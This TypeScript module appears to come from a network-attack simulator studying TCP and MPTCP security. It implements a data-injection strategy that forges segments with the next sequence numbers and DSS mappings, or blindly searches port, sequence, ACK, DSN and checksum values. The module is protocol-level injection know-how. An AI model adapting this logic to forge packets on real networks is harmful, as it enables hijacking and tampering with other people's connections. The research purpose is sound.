/**
 * Data injection (TCP heritage): put bytes into the victim's stream. The
 * segment must carry exactly the next TCP sequence number and, for MPTCP,
 * a DSS mapping at exactly the next data sequence number (with the DSS
 * checksum when the connection uses them, which anyone can compute). An
 * attacker that saw the subflow forges them from what it saw last.
 *
 * One that saw nothing searches blindly (`blind-search.ts`): the client's
 * address and port, a sequence number in the victim's receive window, an
 * ACK it accepts (RFC 5961 §5.2), and for MPTCP the DSS mapping — the
 * subflow sequence number relative to an ISN it never saw (the mapping
 * must cover the bytes exactly) and a 32-bit DSN, which the receiver
 * expands against the one it expects (RFC 8684 §3.3.1), so one guess per
 * window of the low 32 bits will do; with checksums (which it assumes off,
 * as Linux, unless its prior says otherwise) also the checksum, which
 * covers the 64-bit DSN: computed when it knows all 64 bits, else guessed
 * (2^16 values). Plain TCP (`ctx.protocol` 'tcp', the single-path
 * baseline) has no mapping to guess. A guess in the window but above
 * RCV.NXT waits in the victim's out-of-order queue and reaches its
 * application only if it lines up with a segment boundary of the real
 * stream before the real bytes arrive. The victim's own checks decide.
 */
import { formatEndpoint } from '../../wire/ip-address.ts';
import type { Out } from '../../scenario/schema-dsl.ts';
import { dssChecksum } from '../../wire/dss-checksum.ts';
import type { Dss } from '../../wire/mptcp/types.ts';
import { TCP_FLAG } from '../../wire/tcp-header.ts';
import type { TcpOption } from '../../wire/tcp-options.ts';
import { allValues, dsnDim, ssnDim, type DsnGuess } from '../blind-dimensions.ts';
import { BlindSearch, runBlind, searchEstimate, type Dimensions, type GuessEstimate } from '../blind-search.ts';
import type { DATA_INJECTION_PARAMS } from '../catalog.ts';
import { craftSegment } from '../craft.ts';
import type { FlowView, KnownConnection } from '../knowledge.ts';
import { blindTarget, continuedTimestamps, endsOf, optionList, pointText, type SegmentPoint, type SegmentTarget } from '../segment-target.ts';
import type { AttackContext, AttackStrategy, StrategyDefinition } from '../strategy.ts';

type Params = Out<typeof DATA_INJECTION_PARAMS>;

/** A blind guess: the subflow's numbers, and for MPTCP the mapping's. */
type Point = SegmentPoint & { ssn?: number; dsn?: DsnGuess; checksum?: bigint };

interface Plan {
  target: SegmentTarget;
  dims: Dimensions<Point>;
  why: string;
}

class DataInjection implements AttackStrategy {
  /** The search it ran; null when it needed none; undefined before it struck. */
  private ran: GuessEstimate | null | undefined;

  constructor(private readonly p: Params) {}

  start(ctx: AttackContext): void {
    ctx.later(this.p.atUs, () => this.strike(ctx));
  }

  private strike(ctx: AttackContext): void {
    const best = this.seen(ctx);
    if (best) {
      this.ran = null;
      this.informed(ctx, best.toVictim, best.fromVictim);
      return;
    }
    const plan = this.plan(ctx);
    if (!plan) return;
    this.ran = searchEstimate(plan.dims, plan.why);
    const payload = this.payload();
    runBlind(ctx, `has seen no subflow toward the ${this.p.victim}`, {
      search: new BlindSearch(plan.dims, ctx.rng),
      spacingUs: this.p.spacingUs,
      packet: (pt, n) => {
        const options: TcpOption[] = [];
        let mapped = '';
        if (pt.ssn !== undefined && pt.dsn) {
          const dsn = BigInt(pt.dsn.low32);
          // Guessed when it does not know the DSN's high bits; computed, as anyone can, when it does.
          const checksum = pt.checksum !== undefined ? Number(pt.checksum) : ctx.spec.prior?.checksums && pt.dsn.full !== null ? dssChecksum(pt.dsn.full, pt.ssn, payload.length, payload) : undefined;
          options.push({ kind: 'dss', dataFin: false, dataAck64: false, dsn64: false, reserved: 0, mapping: { dsn, ssn: pt.ssn, dataLength: payload.length, ...(checksum !== undefined ? { checksum } : {}) } });
          mapped = `, SSN ${pt.ssn}, DSN ${pt.dsn.low32} (32 bits)${checksum !== undefined ? `, checksum ${checksum}` : ''}`;
        }
        const bytes = craftSegment({ ...endsOf(plan.target, pt, this.p.victim), seq: pt.seq, ack: pt.ack, flags: TCP_FLAG.ACK | TCP_FLAG.PSH, window: plan.target.window, options, payload });
        return { bytes, note: () => `guess ${n}: ${payload.length} bytes at ${pointText(pt)}${mapped}` };
      },
    });
  }

  /** The subflow toward the victim it saw data on most recently. */
  private seen(ctx: AttackContext): { c: KnownConnection; toVictim: FlowView; fromVictim: FlowView | undefined } | null {
    const kb = ctx.knowledge;
    let best: { c: KnownConnection; toVictim: FlowView; fromVictim: FlowView | undefined } | null = null;
    for (const c of kb.connections.values()) {
      const { toServer, toClient } = kb.flowsOf(c);
      const toVictim = this.p.victim === 'server' ? toServer : toClient;
      const fromVictim = this.p.victim === 'server' ? toClient : toServer;
      if (toVictim && (!best || toVictim.lastSeenUs > best.toVictim.lastSeenUs)) best = { c, toVictim, fromVictim };
    }
    return best;
  }

  /** The blind search: the subflow's numbers, and for MPTCP the mapping (with a checksum when it believes the hosts use them and cannot compute it). */
  private plan(ctx: AttackContext): Plan | null {
    const target = blindTarget(ctx, 'in-window');
    if (!target) return null;
    if (ctx.protocol === 'tcp') {
      return { target, dims: target.dims, why: 'Plain TCP takes the bytes with an in-window sequence number and, since RFC 5961, an ACK within MAX.SND.WND of SND.UNA; the client port is the rest of what it must guess.' };
    }
    const dsn = dsnDim(ctx);
    const prior = ctx.spec.prior;
    // The checksum covers the 64-bit DSN (RFC 8684 §3.3.1): without its high 32 bits, the checksum itself is the cheaper guess.
    const checksum = prior?.checksums && prior.dsn === undefined ? { checksum: allValues(ctx, 16, 'DSS checksums (they cover the 64-bit DSN, whose high 32 bits it does not know, RFC 8684 §3.3.1)') } : {};
    return {
      target,
      dims: { ...target.dims, ssn: ssnDim(ctx), dsn, ...checksum },
      why: 'Besides the port and both TCP numbers, MPTCP makes a blind injector map its bytes: the subflow sequence number relative to an ISN it never saw, and a data sequence number in the connection window.',
    };
  }

  private payload(): Uint8Array {
    return Uint8Array.from(this.p.text, (ch) => ch.charCodeAt(0)); // printable ASCII, checked by the validator
  }

  /** It saw the subflow: the next numbers it saw. */
  private informed(ctx: AttackContext, f: FlowView, back: FlowView | undefined): void {
    const payload = this.payload();
    const options: TcpOption[] = [];
    options.push(...optionList(continuedTimestamps(f, back, ctx.now())));
    let dataLevel = '';
    if (f.nextDsn !== null && f.ssnBase !== null) {
      const ssn = (f.nextSeq - f.ssnBase) >>> 0;
      const mapping = { dsn: f.nextDsn, ssn, dataLength: payload.length, ...(f.checksums ? { checksum: dssChecksum(f.nextDsn, ssn, payload.length, payload) } : {}) };
      const dss: Dss = { kind: 'dss', dataFin: false, dataAck64: false, dsn64: true, reserved: 0, mapping, ...(f.dataAck !== null ? { dataAck: f.dataAck & 0xffffffffn } : {}) };
      options.push(dss);
      dataLevel = `, DSN ${f.nextDsn} (SSN ${ssn})${f.checksums ? ' with its DSS checksum' : ''}`;
    }
    const bytes = craftSegment({
      src: f.src,
      dst: f.dst,
      srcPort: f.srcPort,
      dstPort: f.dstPort,
      seq: f.nextSeq,
      ack: back?.nextSeq ?? f.ack,
      flags: TCP_FLAG.ACK | TCP_FLAG.PSH,
      window: f.window,
      options,
      payload,
    });
    ctx.inject(bytes, `${payload.length} bytes "${this.p.text}" to ${formatEndpoint(f.dst, f.dstPort)} as ${formatEndpoint(f.src, f.srcPort)}, at seq ${f.nextSeq}${dataLevel} — the next numbers it saw at ${f.lastSeenUs} µs`);
  }

  expectedGuesses(ctx: AttackContext): GuessEstimate | null {
    if (this.ran !== undefined) return this.ran;
    if (this.seen(ctx)) return null;
    // Not struck yet: the search it would run, without drawing from its own generator.
    const plan = this.plan({ ...ctx, rng: ctx.rng.fork('estimate') });
    return plan && searchEstimate(plan.dims, plan.why);
  }
}

export const dataInjection: StrategyDefinition = {
  create: (params) => new DataInjection(params as Params),
};
